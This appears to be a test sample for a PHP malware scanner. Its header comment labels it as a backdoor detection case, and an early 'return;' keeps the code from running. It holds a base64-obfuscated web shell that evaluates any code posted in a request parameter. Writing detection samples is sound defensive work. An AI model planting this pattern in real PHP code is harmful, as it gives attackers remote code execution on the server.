<?php return; // want: malicious backdoor php.code.request
eval(base64_decode('ZXZhbCgkX1BPU1RbJ3gnXSk7IC8vIG5vdGhpbmcgYnV0IGEgdGVzdA=='));
